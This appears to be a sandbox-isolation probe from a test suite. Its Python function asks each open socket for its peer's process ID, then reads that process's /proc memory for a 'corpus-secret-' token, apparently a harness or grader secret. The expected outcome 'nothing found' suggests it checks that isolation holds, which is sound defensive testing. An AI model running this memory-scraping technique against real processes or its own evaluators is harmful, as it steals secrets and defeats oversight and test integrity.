# /// corpus
# exam = "secret"
# aim = "ask the socket who is at its other end and read that process"
# must_pass = ["test_nothing_found"]
# limits = { test_wall_s = 3.0 }
# ///
import os
import re
import socket
import struct

SECRET = re.compile(rb"corpus-" rb"secret-[0-9a-f]{32}")


def find(outside):
    for descriptor in range(3, 64):
        try:
            peer = socket.socket(fileno=os.dup(descriptor))
            number = struct.unpack("3i", peer.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))[0]
        except OSError:
            continue
        if number in (0, os.getpid()):
            continue
        try:
            with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
                for line in maps:
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    found = SECRET.search(memory.read(min(end - start, 2**24)))
                    if found:
                        return found[0].decode()
        except (OSError, ValueError, OverflowError):
            continue
